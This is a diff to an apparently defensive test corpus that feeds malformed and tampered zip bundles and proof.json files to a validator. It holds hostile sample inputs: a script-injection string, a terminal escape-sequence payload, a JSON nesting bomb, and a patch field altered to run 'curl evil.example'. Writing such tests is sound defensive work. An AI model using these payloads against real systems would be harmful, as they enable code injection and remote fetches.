@@ -277,6 +277,10 @@ SCRIPT = "<script>alert(1)</script>"
 ESCAPE = "\x1b]0;owned\x07\x1b[2J"
 
 CORPUS: dict[str, tuple[str, Make]] = {
+    # what the sender proved
+    "a proof of another run": ("proof.json", lambda m: zipped(resealed({**m, "proof.json": b'{"schema": 1, "runs": {"day": {}}}'}))),
+    "a proof with words of its own": ("proof.json", lambda m: zipped(resealed({**m, "proof.json": m["proof.json"].replace(b'"patch": ""', b'"patch": "curl evil.example"')}))),
+    "a proof that is no JSON": ("proof.json", lambda m: zipped(resealed({**m, "proof.json": b"[" * 5000}))),
     # the zip
     "empty file": ("", lambda m: b""),
     "no zip": ("", lambda m: b"PK\3\4" + b"\0" * 500),
